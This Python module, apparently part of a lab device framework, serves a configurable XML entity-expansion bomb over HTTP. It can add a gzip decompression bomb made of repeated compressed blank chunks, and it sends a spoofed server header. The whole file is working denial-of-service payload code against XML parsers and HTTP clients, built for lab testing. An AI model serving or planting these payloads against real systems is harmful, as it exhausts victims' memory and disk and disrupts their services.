"""Synthetic XML bomb over HTTP: a small page of nested entities that a careless reader expands to gigabytes."""

from __future__ import annotations

import gzip

from pydantic import Field

from lab.devices.http.pages import answering, make_page
from lab.devices.kind import Kind, KindParams, Running, Site
from lab.devices.parameters import Line
from lab.devices.tls.serve import serve_application


class XmlBombParams(KindParams):
    """How large it grows."""

    levels: int = Field(9, ge=1, le=20, examples=[5], description="entities that refer to the one before")
    width: int = Field(10, ge=1, le=100, examples=[20], description="references in each of them")
    padding_mib: int = Field(
        0, ge=0, le=1024, examples=[200], description="MiB of blanks behind it, sent as gzip (a second bomb)"
    )
    content_type: Line = Field("text/xml", examples=["application/xhtml+xml"], description="Content-Type header")
    server: Line = Field("Microsoft-HTTPAPI/2.0", examples=["UPnP/1.0"], description="Server header")


def bomb(params: XmlBombParams) -> bytes:
    """Write the document: entity n is entity n - 1, `width` times."""
    entities = ['<!ENTITY e0 "lol">']
    entities += [f'<!ENTITY e{level} "{f"&e{level - 1};" * params.width}">' for level in range(1, params.levels + 1)]
    declared = "\n".join(entities)
    return f'<?xml version="1.0"?>\n<!DOCTYPE r [\n{declared}\n]>\n<r>&e{params.levels};</r>\n'.encode()


def packed(document: bytes, padding_mib: int) -> bytes:
    """Compress the document with so many MiB of blanks behind it."""
    # Members of gzip may follow each other (RFC 1952, 2.2), so one of 1 MiB is made once and repeated.
    blanks = gzip.compress(b" " * 1024 * 1024, mtime=0)
    return gzip.compress(document, mtime=0) + blanks * padding_mib


async def serve(params: XmlBombParams, site: Site) -> Running:
    """Listen at `site`."""
    headers, body = [("Server", params.server)], bomb(params)
    if params.padding_mib:
        headers.append(("Content-Encoding", "gzip"))
        body = packed(body, params.padding_mib)
    return await serve_application(site, answering(make_page(200, headers, params.content_type, body)))


KIND = Kind(name="xml_bomb", params=XmlBombParams, transports=("tcp",), serve=serve)
